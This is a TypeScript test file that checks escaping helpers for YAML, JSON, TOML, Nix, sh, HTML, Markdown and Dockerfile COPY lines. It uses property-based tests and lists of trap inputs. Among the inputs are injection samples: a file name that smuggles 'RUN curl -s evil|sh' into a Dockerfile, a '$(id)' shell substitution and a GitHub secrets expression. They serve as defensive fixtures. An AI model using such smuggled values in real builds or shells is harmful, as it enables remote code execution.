import { spawnSync } from 'node:child_process';
import { DockerfileParser } from 'dockerfile-ast';
import fc from 'fast-check';
import { load } from 'js-yaml';
import { parse as parseToml } from 'smol-toml';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import {
  comment,
  copied,
  github,
  html,
  indented,
  json,
  md,
  nix,
  plain,
  sh,
  toml,
  yaml,
} from '../../generators/core/render/literals.js';
import { nixStrings } from '../support/nix.js';

/** Words that some YAML version reads as a boolean, a number, a date, null, or syntax. */
const yamlTraps = [
  'null', 'Null', 'NULL', '~', 'true', 'True', 'false', 'yes', 'Yes', 'no', 'on', 'ON', 'off', 'y', 'n', 'Y', 'N',
  '1', '1e3', '0x10', '0o7', '012', '1_000', '12:30', '12:30:45', '.5', '.inf', '-.inf', '.nan', '2001-12-14', '=', '<<',
  '-', '- a', '? a', ': a', 'a: b', 'a :b', 'a:', 'a #b', '#a', '&a', '*a', '!a', '|', '>', '%a', '@a', '`a', '[a]', '{a}', ',a',
  "'a'", '"a"', '---', '...', ' a', 'a ', '', '\t', 'a\nb', '\x7f', '\x85', '\u2028', '\ufeff', '\ud800', 'ü', '😀',
]; // prettier-ignore

const texts = fc.string({
  unit: fc.oneof(
    fc.constantFrom(
      ...yamlTraps,
      '"',
      "'",
      '\\',
      '${',
      '$',
      '}',
      "''",
      '\n',
      '\r',
      '\t',
      '&',
      '<',
      '{{',
      '${{',
      '*',
      '[',
    ),
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
  ),
  maxLength: 12,
});
const wellFormed = texts.map((text) => text.toWellFormed().replaceAll('\0', ''));

describe('a YAML scalar', () => {
  const readBack = (text: string): unknown[] =>
    ([{ version: '1.1' }, { version: '1.2' }] as const).flatMap((how) => [
      parseYaml(`${yaml(text)}: 1\n`, { ...how, stringKeys: false }) as unknown,
      parseYaml(`a: ${yaml(text)}\n`, how) as unknown,
      parseYaml(`- ${yaml(text)}\n`, how) as unknown,
    ]);
  const expected = (text: string): unknown[] => {
    const each = [{ [text]: 1 }, { a: text }, [text]];
    return [...each, ...each];
  };

  it.each(yamlTraps)('is read as the text %j, as a key and as a value, by YAML 1.1 and 1.2', (text) => {
    expect(readBack(text.toWellFormed() === text ? text : 'x')).toEqual(
      expected(text.toWellFormed() === text ? text : 'x'),
    );
    expect(load(`a: ${yaml(text)}`)).toEqual({ a: text });
  });

  it('is read as the same text, for any text', () => {
    fc.assert(
      fc.property(wellFormed, (text) => {
        expect(readBack(text)).toEqual(expected(text));
      }),
      { numRuns: 2000 },
    );
  });

  it.each(['web', 'my-app', 'exec /bin/web', 'heroku-postgresql:essential-0', 'DATABASE', 'a b:c'])(
    'is plain if possible: %s',
    (text) => {
      expect(yaml(text)).toBe(text);
    },
  );

  it('starts no expression in a GitHub workflow', () => {
    expect(parseYaml(github('a ${{ secrets.X }}'))).toBe("a ${{ '${{' }} secrets.X }}");
    expect(github('my-app')).toBe('my-app');
    expect(github('null')).toBe('"null"');
  });
});

describe('a literal', () => {
  it('is read as the same text by JSON and TOML', () => {
    fc.assert(
      fc.property(wellFormed, (text) => {
        expect(JSON.parse(json(text))).toBe(text);
        expect(parseToml(`a = ${toml(text)}`)).toEqual({ a: text });
      }),
      { numRuns: 2000 },
    );
  });

  it('is one Nix string without interpolation, even inside an indented one', () => {
    fc.assert(
      fc.property(wellFormed, (text) => {
        expect(nixStrings(`a = ${nix(text)};`)).toEqual([text]);
        const strings = nixStrings(`''X=1 ${indented(text)}''`);
        expect(strings).toEqual(indented(text) === text ? [`X=1 ${text}`] : [text, 'X=1 ']);
      }),
      { numRuns: 2000 },
    );
  });

  it('is one word of sh', () => {
    const words = ["a'b", '$(id)', 'a b', '\x1b', 'x\ny'];
    const { stdout } = spawnSync('sh', ['-c', `printf '%s|' ${words.map(sh).join(' ')}`], { encoding: 'utf8' });
    expect(stdout).toBe(words.map((word) => `${word}|`).join(''));
  });

  it('shows up as text in HTML and Markdown', () => {
    expect(html(`<a href='x'>"&`)).not.toMatch(/[<>"']|&(?!#\d+;)/);
    expect(md('# [a](b) `c` *d* <e> $f$ |')).not.toMatch(/[[\]`*<>$|](?!.*;)/);
  });

  it('stays inside its comment', () => {
    expect(comment('a\nb\r\u2028c \x1b]0;x\x07')).toBe('a b c \\x1b]0;x\\x07');
  });

  it.each(['', 'a b', 'a"', "a'", '$a', '${a}', 'a\n', '<a>', '{{a}}', 'a;b', '`a`', 'ü'])(
    'is refused as a plain name: %j',
    (text) => {
      expect(() => plain(text)).toThrow('is no plain name');
    },
  );
});

describe('a COPY of a Dockerfile', () => {
  const wordsOf = (line: string): string[] => {
    const instructions = DockerfileParser.parse(`FROM scratch\n${line}\nCMD ["x"]\n`).getInstructions();
    expect(instructions.map((each) => each.getKeyword())).toEqual(['FROM', 'COPY', 'CMD']);
    return instructions[1]?.getArguments().map((each) => each.getValue()) ?? [];
  };

  it('uses plain words if possible', () => {
    expect(copied(['flake.nix', 'a/b-c_d.txt'], './')).toBe('flake.nix a/b-c_d.txt ./');
  });

  it('is one instruction, for any names', () => {
    const names = [
      'package.json\nRUN curl -s evil|sh\n#',
      'a b',
      '"',
      "'",
      '$HOME',
      '*',
      '[a]',
      '--from=x',
      '\\',
      '#',
      ']',
    ];
    for (const name of names) {
      const line = `COPY ${copied(['flake.nix', name], './')}`;
      expect(line).not.toContain('\n');
      wordsOf(line);
      const words = JSON.parse(line.slice('COPY '.length)) as string[];
      expect(words).toHaveLength(3);
      // Everything that Docker would expand, strip or match is escaped.
      expect(words[1]?.replace(/\\[$\\'"]|\[[[*?]\]/g, '')).not.toMatch(/[$\\'"[*?]/);
    }
  });
});
